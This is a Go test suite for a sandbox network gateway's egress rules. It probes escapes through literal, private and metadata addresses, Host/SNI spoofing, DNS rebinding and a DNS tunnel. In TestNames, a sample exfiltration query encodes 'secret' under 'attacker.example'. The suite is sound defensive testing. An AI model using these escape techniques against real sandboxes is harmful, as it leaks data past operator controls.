package network

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// attempt is one run of the client.
type attempt struct {
	name string
	args []string
	want string // what is said; with "error:" it must fail
}

// place is where the client may run.
type place interface{ try(args ...string) string }

func check(t *testing.T, at place, list []attempt) {
	t.Helper()
	for _, a := range list {
		t.Run(a.name, func(t *testing.T) {
			if said := at.try(a.args...); !strings.Contains(said, a.want) {
				t.Errorf("%q: %q, want %q", a.args, said, a.want)
			}
		})
	}
}

// What a rule names is reached, with any protocol, under its name.
//
//caisson:kernel
//caisson:smoke
func TestAllowed(t *testing.T) {
	reaches(t, "web.example:80", "web.example:443", "api.web.example:80", "db.example:5432", "inside.example:80", mirror+":80")
	s := create(t, "--allow", "web.example", "--allow", "*.web.example", "--allow", "db.example:5432", "--allow", "inside.example,private", "--deny", "bad.web.example")
	check(t, s, []attempt{
		{"HTTP", []string{"http", "http://web.example/"}, "200 I am " + public + ", you asked for web.example"},
		{"TLS", []string{"tls", "web.example:443", "web.example"}, "I am " + public + ", you asked for web.example"},
		{"below a wildcard", []string{"http", "http://api.web.example/"}, "200 I am " + public},
		{"any protocol on another port", []string{"echo", "db.example:5432"}, "echo ping"},
		{"what is not public, by a rule that says so", []string{"http", "http://inside.example/"}, "200 I am " + private},
		{"a mapped name", []string{"http", "http://mirror.example/"}, "200 I am " + mirror},
		{"another spelling", []string{"http", "http://WEB.example./"}, "200 I am " + public},
		{"the sandbox's own loopback device", []string{"echo", "127.0.0.1:5432"}, "connection refused"},
	})
}

// What no rule names is not, however it is asked for. Outside it answers: the same
// attempt, or what the gateway would have to do to let it pass.
//
//caisson:smoke
func TestNotAllowed(t *testing.T) {
	asks(t, "web.example", "inside.example", "metadata.example", "home.example", "db.example") // and nothing is connected to
	s := create(t, "--allow", "web.example", "--allow", "*.web.example", "--deny", "bad.web.example",
		"--allow", "inside.example", "--allow", "metadata.example,private", "--allow", "home.example", "--allow", "db.example:5432")
	for _, a := range []struct {
		attempt
		control []string // outside; nil is the attempt itself
		answer  string   // to the control
	}{
		{attempt{"P088 a literal address", []string{"http", "http://" + public + "/"}, "error:"}, nil, "200"},
		{attempt{"P088 that of another name, on an allowed port", []string{"tls", elsewhere + ":443", "web.example"}, "error:"}, nil, "I am"},
		{attempt{"P088 a port that no rule names", []string{"echo", "93.184.215.14:5432"}, "error:"}, nil, "echo ping"},
		{attempt{"P088 IPv6", []string{"echo", "[" + publicV6 + "]:5432"}, "error:"}, nil, "echo ping"},
		{attempt{"P088 IPv6 on an allowed port", []string{"http", "http://[" + publicV6 + "]/", "web.example"}, "error:"}, nil, "200 I am " + publicV6},
		{attempt{"P089 UDP", []string{"query", resolver + ":53", "web.example", "A"}, "error:"}, nil, "A Success 1"},
		{attempt{"P090 the metadata service", []string{"http", "http://" + metadata + "/"}, "error:"}, nil, "200"},
		{attempt{"P090 a name that leads to it", []string{"http", "http://metadata.example/", "metadata.example"}, "SBX-702"}, []string{"http", "http://" + metadata + "/"}, "200"},
		{attempt{"P088 a private address", []string{"http", "http://" + private + "/"}, "error:"}, nil, "200"},
		{attempt{"P097 a name that leads to a private address", []string{"http", "http://inside.example/"}, "SBX-702"}, []string{"http", "http://" + private + "/", "inside.example"}, "200"},
		{attempt{"P097 a name that leads to the host's loopback", []string{"http", "http://home.example/"}, "SBX-702"}, []string{"http", "http://127.0.0.1/", "home.example"}, "200"},
		{attempt{"the host's loopback", []string{"http", "http://127.0.0.1/"}, "error:"}, nil, "200"},
		{attempt{"P105 a name beside the rule", []string{"http", "http://other.example/"}, "error:"}, []string{"http", "http://" + elsewhere + "/", "other.example"}, "200"},
		{attempt{"a denied name below an allowed one", []string{"http", "http://bad.web.example/"}, "error:"}, []string{"http", "http://" + public + "/", "bad.web.example"}, "200"},
		{attempt{"P108 Host is another's", []string{"http", "http://web.example/", "other.example"}, "SBX-703"}, []string{"http", "http://" + public + "/", "other.example"}, "you asked for other.example"},
		{attempt{"P108 SNI is another's", []string{"tls", "web.example:443", "other.example"}, "error:"}, []string{"tls", public + ":443", "other.example"}, "you asked for other.example"},
		{attempt{"a port that its rule does not name", []string{"echo", "web.example:5432"}, "error:"}, []string{"echo", public + ":5432"}, "echo ping"},
		{attempt{"HTTP on a port for another protocol", []string{"http", "http://db.example/"}, "SBX-701"}, []string{"http", "http://" + public + "/", "db.example"}, "200"},
		{attempt{"P094 TCP to a resolver", []string{"tcpquery", resolver + ":53", "web.example", "A"}, "error:"}, nil, "A Success 1"},
		{attempt{"P094 DNS over TLS", []string{"tls", public + ":853", "web.example"}, "error:"}, nil, "I am"},
	} {
		t.Run(a.name, func(t *testing.T) {
			control := a.control
			if control == nil {
				control = a.args
			}
			if said := outside(t, control...); !strings.Contains(said, a.answer) {
				t.Fatalf("the control: %q: %q, want %q", control, said, a.answer)
			}
			if said := s.try(a.args...); !strings.Contains(said, a.want) {
				t.Errorf("%q: %q, want %q", a.args, said, a.want)
			}
		})
	}
}

// P090: metadata services of other clouds are no better, also where a rule lets a name
// lead to what is private.
func TestMetadata(t *testing.T) {
	for i, addr := range metadataServices {
		t.Run(addr, func(t *testing.T) {
			name := fmt.Sprintf("metadata%d.example", i)
			asks(t, name)
			s := create(t, "--allow", name+",private")
			literal := "http://" + addr + "/"
			if strings.Contains(addr, ":") {
				literal = "http://[" + addr + "]/"
			}
			if said := outside(t, "http", literal, name); !strings.Contains(said, "200 I am "+addr) {
				t.Fatalf("the control: %q", said)
			}
			if said := s.try("http", literal, name); !strings.Contains(said, "error:") {
				t.Errorf("by its address: %q", said)
			}
			if said := s.try("http", "http://"+name+"/"); !strings.Contains(said, "SBX-702") {
				t.Errorf("by a name: %q", said)
			}
		})
	}
}

// P094, P095: names are a way out too. Nothing is asked for what is not allowed,
// and nothing is told but addresses.
func TestNames(t *testing.T) {
	asks(t, "web.example")
	s := create(t, "--allow", "web.example")
	const own = "127.0.0.1:53"
	check(t, s, []attempt{
		{"an address", []string{"query", own, "web.example", "A"}, "A Success 1"},
		{"nothing but addresses", []string{"query", own, "web.example", "AAAA", "TXT", "MX", "HTTPS", "SVCB"}, "AAAA Success 0, TXT Success 0, MX Success 0, HTTPS Success 0, SVCB Success 0"},
		{"its own", []string{"names", "web.example"}, "198.1"},
	})
	if said := outside(t, "query", resolver+":53", "c2VjcmV0.attacker.example", "TXT"); !strings.Contains(said, "TXT NameError") {
		t.Fatalf("the control: %q", said)
	}
	if asked := host.dns.questions(); !slices.Contains(asked, "c2vjcmv0.attacker.example.") {
		t.Fatalf("the control did not arrive: %q", asked)
	}
	check(t, s, []attempt{
		{"a tunnel", []string{"query", own, "c2VjcmV0.attacker.example", "A", "TXT"}, "A NameError 0, TXT NameError 0"},
		{"below an allowed name", []string{"query", own, "c2VjcmV0.web.example", "A"}, "A NameError 0"},
	})
	for _, asked := range host.dns.questions() {
		if strings.Contains(asked, "c2vjcmv0") {
			t.Errorf("%q was asked for", asked)
		}
	}
}

// P097: what was resolved and checked is what is dialled, once.
func TestRebinding(t *testing.T) {
	s := create(t, "--allow", "moves.example")
	host.dns.set("moves.example", public, private)
	reaches(t, "moves.example:80") // the first
	for range 3 {
		said := s.try("http", "http://moves.example/")
		if !strings.Contains(said, "200 I am "+public) && !strings.Contains(said, "SBX-702") {
			t.Errorf("%q, want the public server or a refusal", said)
		}
	}
}

//caisson:kernel
//caisson:smoke
func TestOpen(t *testing.T) {
	reaches(t, "web.example:80", "db.example:5432")
	asks(t, "inside.example", "metadata.example")
	s := create(t, "--network", "open", "--deny", "other.example")
	check(t, s, []attempt{
		{"a name", []string{"http", "http://web.example/"}, "200 I am " + public},
		{"another port", []string{"echo", "db.example:5432"}, "echo ping"},
		{"a denied name", []string{"http", "http://other.example/"}, "error:"},
		{"a literal address", []string{"http", "http://" + public + "/"}, "error:"},
		{"a name of a private address", []string{"http", "http://inside.example/"}, "SBX-702"},
		{"the metadata service", []string{"http", "http://metadata.example/"}, "SBX-702"},
	})
}

// Mode none is as it was: there is nobody to ask.
//
//caisson:kernel
//caisson:smoke
func TestNone(t *testing.T) {
	s := create(t)
	check(t, s, []attempt{
		{"a name", []string{"http", "http://web.example/"}, "error:"},
		{"the resolver", []string{"query", "127.0.0.1:53", "web.example", "A"}, "error:"},
		{"an address of the pool", []string{"echo", "198.18.0.9:80"}, "unreachable"},
	})
}
